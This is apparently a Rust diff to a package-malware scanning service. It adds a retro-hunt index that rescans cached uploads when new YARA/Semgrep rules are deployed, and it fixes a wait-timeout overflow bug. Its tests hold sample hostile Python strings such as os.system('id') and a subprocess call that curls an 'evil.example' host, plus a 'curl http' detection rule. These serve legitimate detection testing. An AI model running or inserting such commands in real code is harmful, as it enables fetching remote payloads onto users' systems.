@@ -15,8 +15,11 @@ use yara_engine::{CompiledRules, ScanScratch, Scanner};
 
 use crate::artifact::{ArtifactConfig, FileAnalysis};
 use crate::cache::{ArtifactCache, DigestKey, VerdictCache};
-use crate::prefilter::{PrefilterIndex, PrefilterScratch, Routing};
+use crate::prefilter::{PrefilterIndex, PrefilterScratch, Routing, RuleEngine};
 use crate::request::ScanRequest;
+use crate::retrohunt::{
+    confirm_scan, ConfirmTask, RetroIndex, RetroReport, RuleDeployment, TermProvenance,
+};
 use crate::stats::{HubCounters, HubStats, LatencyStat, StageLatencies};
 use crate::trace::{fired_from_verdict, ScanTrace, StageNanos};
 use crate::verdict::{LayerFinding, Verdict};
@@ -48,6 +51,11 @@ pub struct HubConfig {
     /// Flight-recorder ring size: the last N completed scan traces kept
     /// for after-the-fact explanation. 0 keeps histograms but no traces.
     pub trace_capacity: usize,
+    /// Maintain the retro-hunt atom→digest posting index alongside the
+    /// artifact cache, so deploying new rules confirm-scans only
+    /// candidate digests ([`ScanHub::retro_hunt`]). No effect when
+    /// `artifact_cache_capacity` is 0.
+    pub retro_index: bool,
 }
 
 impl Default for HubConfig {
@@ -63,6 +71,7 @@ impl Default for HubConfig {
             prefilter: true,
             telemetry: true,
             trace_capacity: 256,
+            retro_index: true,
         }
     }
 }
@@ -145,17 +154,23 @@ impl Ticket {
             match slot.as_ref() {
                 Some(Ok(v)) => return Some(v.clone()),
                 Some(Err(msg)) => panic!("{msg}"),
-                None => {
-                    let remaining = deadline
-                        .and_then(|d| d.checked_duration_since(Instant::now()))
-                        .filter(|r| !r.is_zero())?;
-                    let (guard, _timed_out) = self
-                        .state
-                        .ready
-                        .wait_timeout(slot, remaining)
-                        .expect("ticket wait");
-                    slot = guard;
-                }
+                // A deadline `Instant` can't represent (`Duration::MAX`
+                // overflows `checked_add`) is infinitely far away, not
+                // already expired: block exactly like `wait()`.
+                None => match deadline {
+                    None => slot = self.state.ready.wait(slot).expect("ticket wait"),
+                    Some(deadline) => {
+                        let remaining = deadline
+                            .checked_duration_since(Instant::now())
+                            .filter(|r| !r.is_zero())?;
+                        let (guard, _timed_out) = self
+                            .state
+                            .ready
+                            .wait_timeout(slot, remaining)
+                            .expect("ticket wait");
+                        slot = guard;
+                    }
+                },
             }
         }
     }
@@ -202,6 +217,10 @@ struct HubTelemetry {
     semgrep: Arc<Histogram>,
     verdict: Arc<Histogram>,
     scan: Arc<Histogram>,
+    /// Retro-hunt stages: index query (one sample per hunt) and
+    /// per-digest confirm scans.
+    retro_query: Arc<Histogram>,
+    retro_confirm: Arc<Histogram>,
 }
 
 const STAGE_HIST: &str = "scanhub_stage_duration_ns";
@@ -221,6 +240,8 @@ impl HubTelemetry {
             layers: stage("layers"),
             semgrep: stage("semgrep"),
             verdict: stage("verdict"),
+            retro_query: stage("retro_query"),
+            retro_confirm: stage("retro_confirm"),
             scan: registry.histogram(
                 "scanhub_scan_duration_ns",
                 "End-to-end submit-to-verdict wall time in nanoseconds",
@@ -279,6 +300,8 @@ impl HubTelemetry {
             layers: stat(&self.layers),
             semgrep: stat(&self.semgrep),
             verdict: stat(&self.verdict),
+            retro_query: stat(&self.retro_query),
+            retro_confirm: stat(&self.retro_confirm),
             scan: stat(&self.scan),
         }
     }
@@ -292,6 +315,11 @@ impl HubTelemetry {
 struct ArtifactStore {
     cache: Mutex<ArtifactCache>,
     inflight: Mutex<std::collections::HashMap<DigestKey, Arc<InflightSlot>>>,
+    /// The retro-hunt posting index, kept in lockstep with cache
+    /// residency on the publish path. Lock discipline: never held
+    /// together with `cache` — publish inserts into the cache, drops
+    /// that guard, then updates the index with the eviction report.
+    retro: Option<Mutex<RetroIndex>>,
 }
 
 enum InflightState {
@@ -319,11 +347,19 @@ struct BuildClaim<'a> {
 
 impl BuildClaim<'_> {
     fn publish(mut self, artifact: &Arc<FileAnalysis>) {
-        self.store
+        let evicted = self
+            .store
             .cache
             .lock()
             .expect("artifact cache lock")
             .insert(self.digest, Arc::clone(artifact));
+        if let Some(retro) = &self.store.retro {
+            let mut retro = retro.lock().expect("retro index lock");
+            for digest in &evicted {
+                retro.remove(digest);
+            }
+            retro.insert_artifact(artifact);
+        }
         self.store
             .resolve(&self.digest, InflightState::Ready(Arc::clone(artifact)));
         self.published = true;
@@ -339,10 +375,11 @@ impl Drop for BuildClaim<'_> {
 }
 
 impl ArtifactStore {
-    fn new(capacity: usize) -> Self {
+    fn new(capacity: usize, retro_index: bool) -> Self {
         ArtifactStore {
             cache: Mutex::new(ArtifactCache::new(capacity)),
             inflight: Mutex::new(std::collections::HashMap::new()),
+            retro: retro_index.then(|| Mutex::new(RetroIndex::new())),
         }
     }
 
@@ -468,7 +505,7 @@ impl ScanHub {
             cache: (config.cache_capacity > 0)
                 .then(|| Mutex::new(VerdictCache::new(config.cache_capacity))),
             artifacts: (config.artifact_cache_capacity > 0)
-                .then(|| ArtifactStore::new(config.artifact_cache_capacity)),
+                .then(|| ArtifactStore::new(config.artifact_cache_capacity, config.retro_index)),
             counters: HubCounters::default(),
             telemetry: HubTelemetry::new(config.telemetry, config.trace_capacity),
         });
@@ -486,12 +523,227 @@ impl ScanHub {
         &self.shared.index
     }
 
+    /// Diffs a candidate rule bundle against the hub's live one.
+    ///
+    /// Builds the new bundle's prefilter index with the atom interner
+    /// seeded from the live index (stable interning — shared atoms keep
+    /// their ids) and reports exactly which rules are new or changed
+    /// their atom sets and which atoms the old index had never seen,
+    /// packaged with changed-rules-only subset rulesets ready for
+    /// [`ScanHub::retro_hunt`]. The hub itself keeps scanning with its
+    /// current bundle: a retro-hunt is pre-swap screening of history.
+    pub fn deploy_rules(
+        &self,
+        yara: Option<CompiledRules>,
+        semgrep: Option<CompiledSemgrepRules>,
+    ) -> RuleDeployment {
+        let new_index =
+            PrefilterIndex::build_seeded(yara.as_ref(), semgrep.as_ref(), Some(&self.shared.index));
+        let delta = self.shared.index.diff(&new_index);
+        RuleDeployment::build(delta, yara.as_ref(), semgrep.as_ref())
+    }
+
+    /// Runs the deployment's changed rules over the cached package
+    /// history by querying the retro index and confirm-scanning only
+    /// candidate digests. Returns `None` when the artifact cache or the
+    /// retro index is disabled.
+    ///
+    /// Per-rule hit sets and per-digest verdicts are identical to
+    /// [`ScanHub::retro_rescan`] (the exhaustive oracle) — pinned by
+    /// the differential suite; only the candidate/scan counts differ,
+    /// which is exactly the speedup.
+    pub fn retro_hunt(&self, deployment: &RuleDeployment) -> Option<RetroReport> {
+        let store = self.shared.artifacts.as_ref()?;
+        let retro = store.retro.as_ref()?;
+        let telemetry_on = self.shared.telemetry.enabled();
+        let query_clock = telemetry_on.then(Instant::now);
+        let counters = &self.shared.counters;
+        HubCounters::add(&counters.retro_hunts, 1);
+
+        let changed = &deployment.delta.changed;
+        let (yara_len, semgrep_len) = deployment.subset_lens();
+        let mut plan: std::collections::HashMap<DigestKey, (Vec<bool>, Vec<bool>)> =
+            std::collections::HashMap::new();
+        let mut per_rule_candidates: Vec<u64> = vec![0; changed.len()];
+        let mut candidates_total = 0u64;
+        let mut full_candidacy_rules = 0u64;
+        let digests_indexed;
+        {
+            let retro = retro.lock().expect("retro index lock");
+            digests_indexed = retro.digest_count() as u64;
+            for (ci, rule) in changed.iter().enumerate() {
+                // Candidates for this rule: `None` means "cannot gate —
+                // full candidacy" (no exhaustive atom set, or an atom
+                // too short to decompose into grams).
+                let gated: Option<Vec<(DigestKey, bool)>> = if !rule.exhaustive {
+                    None
+                } else if rule.atoms.is_empty() {
+                    // Exhaustive and atomless: the rule can never match
+                    // (`condition: false`), so zero candidates is sound.
+                    Some(Vec::new())
+                } else {
+                    let mut acc: std::collections::HashMap<DigestKey, bool> =
+                        std::collections::HashMap::new();
+                    let mut fallback = false;
+                    for atom in &rule.atoms {
+                        let Some(surface) =
+                            retro.candidates_for_atom(atom, TermProvenance::Surface)
+                        else {
+                            fallback = true;
+                            break;
+                        };
+                        match rule.engine {
+                            // YARA scans raw bytes and every decoded
+                            // layer; any-of atom semantics unions.
+                            RuleEngine::Yara => {
+                                acc.extend(surface);
+                                let layer = retro
+                                    .candidates_for_atom(atom, TermProvenance::Layer)
+                                    .expect("same atom was surface-queryable");
+                                acc.extend(layer);
+                            }
+                            // Semgrep parses Python surface text only.
+                            RuleEngine::Semgrep => {
+                                acc.extend(surface.into_iter().filter(|(_, python)| *python));
+                            }
+                        }
+                    }
+                    (!fallback).then(|| acc.into_iter().collect())
+                };
+                let list: Vec<(DigestKey, bool)> = match gated {
+                    Some(list) => list,
+                    None => {
+                        full_candidacy_rules += 1;
+                        let all = retro.all_digests();
+                        match rule.engine {
+                            RuleEngine::Yara => all,
+                            RuleEngine::Semgrep => {
+                                all.into_iter().filter(|(_, python)| *python).collect()
+                            }
+                        }
+                    }
+                };
+                per_rule_candidates[ci] = list.len() as u64;
+                candidates_total += list.len() as u64;
+                let subset = deployment.subset_pos[ci];
+                for (digest, _) in list {
+                    let entry = plan
+                        .entry(digest)
+                        .or_insert_with(|| (vec![false; yara_len], vec![false; semgrep_len]));
+                    match rule.engine {
+                        RuleEngine::Yara => entry.0[subset] = true,
+                        RuleEngine::Semgrep => entry.1[subset] = true,
+                    }
+                }
+            }
+        }
+        if let Some(start) = query_clock {
+            self.shared
+                .telemetry
+                .retro_query
+                .record(start.elapsed().as_nanos() as u64);
+        }
+
+        let mut tasks: Vec<ConfirmTask> = plan
+            .into_iter()
+            .map(|(digest, (yara_mask, semgrep_mask))| ConfirmTask {
+                digest,
+                yara_mask,
+                semgrep_mask,
+            })
+            .collect();
+        tasks.sort_by_key(|a| a.digest);
+        let outcome = confirm_scan(
+            deployment,
+            &tasks,
+            |d| store.cache.lock().expect("artifact cache lock").get(d),
+            |ns| {
+                if telemetry_on {
+                    self.shared.telemetry.retro_confirm.record(ns);
+                }
+            },
+        );
+        HubCounters::add(&counters.retro_candidates, candidates_total);
+        HubCounters::add(&counters.retro_confirm_scans, outcome.scans);
+        let mut rules = outcome.rules;
+        for (rule, candidates) in rules.iter_mut().zip(per_rule_candidates) {
+            rule.candidates = candidates;
+        }
+        Some(RetroReport {
+            rules,
+            verdicts: outcome.verdicts,
+            digests_indexed,
+            candidates: candidates_total,
+            confirm_scans: outcome.scans,
+            full_candidacy_rules,
+        })
+    }
+
+    /// The exhaustive oracle: confirm-scans **every** resident digest
+    /// with every changed rule, no index consulted. This is both the
+    /// full-rescan baseline the bench times and the ground truth the
+    /// differential suite compares [`ScanHub::retro_hunt`] against.
+    /// Touches none of the retro counters or histograms.
+    pub fn retro_rescan(&self, deployment: &RuleDeployment) -> Option<RetroReport> {
+        let store = self.shared.artifacts.as_ref()?;
+        let retro = store.retro.as_ref()?;
+        let (yara_len, semgrep_len) = deployment.subset_lens();
+        let all = retro.lock().expect("retro index lock").all_digests();
+        let mut tasks: Vec<ConfirmTask> = all
+            .iter()
+            .map(|(digest, _)| ConfirmTask {
+                digest: *digest,
+                yara_mask: vec![true; yara_len],
+                semgrep_mask: vec![true; semgrep_len],
+            })
+            .collect();
+        tasks.sort_by_key(|a| a.digest);
+        let outcome = confirm_scan(
+            deployment,
+            &tasks,
+            |d| store.cache.lock().expect("artifact cache lock").get(d),
+            |_| {},
+        );
+        let mut rules = outcome.rules;
+        for rule in rules.iter_mut() {
+            rule.candidates = all.len() as u64;
+        }
+        Some(RetroReport {
+            rules,
+            verdicts: outcome.verdicts,
+            digests_indexed: all.len() as u64,
+            candidates: deployment.delta.changed.len() as u64 * all.len() as u64,
+            confirm_scans: outcome.scans,
+            full_candidacy_rules: deployment.delta.changed.len() as u64,
+        })
+    }
+
     /// A snapshot of the service counters plus per-stage latency
     /// percentiles (zeroed when telemetry is off).
     pub fn stats(&self) -> HubStats {
         let mut stats = self.shared.counters.snapshot();
         stats.latency = self.shared.telemetry.latencies();
+        let (atoms, digests) = self.retro_index_size();
+        stats.retro_index_atoms = atoms;
+        stats.retro_index_digests = digests;
         stats
+    }
+
+    /// Current retro-index size as `(indexed terms, live digests)` —
+    /// both 0 when the index is disabled. Terms are folded content
+    /// 3-grams (the realization of atom posting lists), so the gauge
+    /// tracks index growth independent of which atoms rules use.
+    pub fn retro_index_size(&self) -> (u64, u64) {
+        let Some(retro) = self
+            .shared
+            .artifacts
+            .as_ref()
+            .and_then(|s| s.retro.as_ref())
+        else {
+            return (0, 0);
+        };
+        let retro = retro.lock().expect("retro index lock");
+        (retro.term_count() as u64, retro.digest_count() as u64)
     }
 
     /// Whether per-stage timing and trace recording are on.
@@ -601,9 +853,35 @@ impl ScanHub {
                 "Semgrep evaluations skipped by the prefilter",
                 stats.semgrep_rules_skipped,
             ),
+            (
+                "scanhub_retro_hunts_total",
+                "Retro-hunt deployments executed",
+                stats.retro_hunts,
+            ),
+            (
+                "scanhub_retro_candidates_total",
+                "Digests nominated by the retro index across all hunts",
+                stats.retro_candidates,
+            ),
+            (
+                "scanhub_retro_confirm_scans_total",
+                "Digests confirm-scanned by retro-hunts",
+                stats.retro_confirm_scans,
+            ),
         ] {
             reg.counter(name, help).set(value);
         }
+        let (retro_atoms, retro_digests) = self.retro_index_size();
+        reg.gauge(
+            "scanhub_retro_index_atoms",
+            "Distinct indexed retro-hunt terms (folded content 3-grams)",
+        )
+        .set(retro_atoms as i64);
+        reg.gauge(
+            "scanhub_retro_index_digests",
+            "Content digests resident in the retro-hunt index",
+        )
+        .set(retro_digests as i64);
         reg.gauge("scanhub_cached_verdicts", "Verdicts currently cached")
             .set(self.cached_verdicts() as i64);
         reg.gauge(
@@ -1541,6 +1819,110 @@ rule missing { strings: $a = "never-present-atom" condition: not $a }
         });
         state.fulfill(Err("scan worker panicked: boom".to_owned()));
         let _ = Ticket { state }.wait_timeout(Duration::ZERO);
+    }
+
+    #[test]
+    fn wait_timeout_with_an_overflowing_deadline_blocks_like_wait() {
+        // `Instant::now() + Duration::MAX` is unrepresentable; the
+        // overflowed deadline must mean "infinitely patient", not
+        // "already expired". Regression: this returned `None`
+        // immediately, so callers passing a huge timeout lost verdicts.
+        let hub = hub(HubConfig::default());
+        let ticket = hub.submit(request("import os\nos.system('id')\n"));
+        let v = ticket
+            .wait_timeout(Duration::MAX)
+            .expect("an unrepresentable deadline must block until the verdict, like wait()");
+        assert!(v.flagged());
+        // Near-overflow values that still fit behave the same.
+        let ticket = hub.submit(request("print('clean')\n"));
+        assert!(ticket
+            .wait_timeout(Duration::from_secs(u64::MAX / 4))
+            .is_some());
+    }
+
+    #[test]
+    fn retro_hunt_confirms_only_candidates_and_matches_the_rescan_oracle() {
+        let hub = hub(HubConfig::default());
+        for (i, code) in [
+            "import os\nos.system('id')\n",
+            "import socket\nsocket.socket()\n",
+            "print('benign upload')\n",
+            "import subprocess\nsubprocess.run('curl http://evil.example/x')\n",
+        ]
+        .iter()
+        .enumerate()
+        {
+            let _ = hub
+                .submit(ScanRequest::from_source(format!("pkg{i}.py"), *code))
+                .wait();
+        }
+        // New bundle: same three rules plus one new atom-gated rule.
+        let new_yara = yara_engine::compile(&format!(
+            "{YARA}\nrule curl_fetch {{ strings: $a = \"curl http\" condition: $a }}\n"
+        ))
+        .expect("yara");
+        let deployment = hub.deploy_rules(
+            Some(new_yara),
+            Some(semgrep_engine::compile(SEMGREP).expect("s")),
+        );
+        assert_eq!(
+            deployment.delta.changed.len(),
+            1,
+            "only the new rule changed"
+        );
+        assert_eq!(deployment.delta.changed[0].name, "curl_fetch");
+        assert_eq!(deployment.delta.unchanged, 4);
+        assert!(deployment.delta.new_atoms.contains(&"curl http".to_owned()));
+
+        let report = hub.retro_hunt(&deployment).expect("retro index enabled");
+        let oracle = hub.retro_rescan(&deployment).expect("oracle");
+        assert!(report.same_hits(&oracle), "index-assisted ≡ exhaustive");
+        assert_eq!(report.rules.len(), 1);
+        assert_eq!(
+            report.rules[0].digests.len(),
+            1,
+            "exactly one upload has the atom"
+        );
+        assert_eq!(report.digests_indexed, 4);
+        assert!(
+            report.confirm_scans < report.digests_indexed,
+            "the index must prune: {} scans over {} digests",
+            report.confirm_scans,
+            report.digests_indexed
+        );
+        let stats = hub.stats();
+        assert_eq!(stats.retro_hunts, 1);
+        assert_eq!(stats.retro_confirm_scans, report.confirm_scans);
+        assert_eq!(stats.retro_candidates, report.candidates);
+        assert!(stats.retro_index_atoms > 0);
+        assert_eq!(stats.retro_index_digests, 4);
+        // The retro stages recorded latency samples.
+        assert_eq!(stats.latency.retro_query.count, 1);
+        assert_eq!(stats.latency.retro_confirm.count, report.confirm_scans);
+        // Export carries the new counters and gauges.
+        let text = hub.export_prometheus();
+        assert!(text.contains("scanhub_retro_confirm_scans_total 1"));
+        assert!(text.contains("scanhub_retro_index_digests 4"));
+        assert!(telemetry::validate_prometheus(&text).is_ok());
+    }
+
+    #[test]
+    fn retro_hunt_is_unavailable_without_cache_or_index() {
+        let no_cache = hub(HubConfig {
+            artifact_cache_capacity: 0,
+            ..HubConfig::default()
+        });
+        let deployment =
+            no_cache.deploy_rules(Some(yara_engine::compile(YARA).expect("yara")), None);
+        assert!(no_cache.retro_hunt(&deployment).is_none());
+        assert!(no_cache.retro_rescan(&deployment).is_none());
+        let no_index = hub(HubConfig {
+            retro_index: false,
+            ..HubConfig::default()
+        });
+        let _ = no_index.submit(request("print('x')\n")).wait();
+        assert!(no_index.retro_hunt(&deployment).is_none());
+        assert_eq!(no_index.retro_index_size(), (0, 0));
     }
 
     #[test]
